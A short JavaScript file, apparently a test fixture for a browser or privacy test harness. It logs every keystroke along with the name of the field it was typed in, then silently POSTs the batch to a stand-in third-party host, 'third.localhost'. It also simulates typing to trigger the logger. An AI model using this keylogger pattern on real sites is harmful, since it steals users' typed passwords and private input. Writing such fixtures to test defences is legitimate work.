// Gathers which keys are pressed in which field, and sends them every now and then.
(() => {
  const pressed = [];
  document.addEventListener(
    "keydown",
    (event) => pressed.push({ key: event.key, field: event.target.name, at: Date.now() }),
    true,
  );
  setTimeout(
    () =>
      fetch("http://third.localhost/batch", {
        method: "POST",
        mode: "no-cors",
        keepalive: true,
        body: JSON.stringify(pressed.splice(0)),
      }).catch(() => null),
    1500,
  );
  const field = document.body.appendChild(document.createElement("input"));
  field.type = "search";
  for (const key of "somebody types")
    field.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
  globalThis.deeds.push(new Promise((done) => setTimeout(done, 1700)));
})();
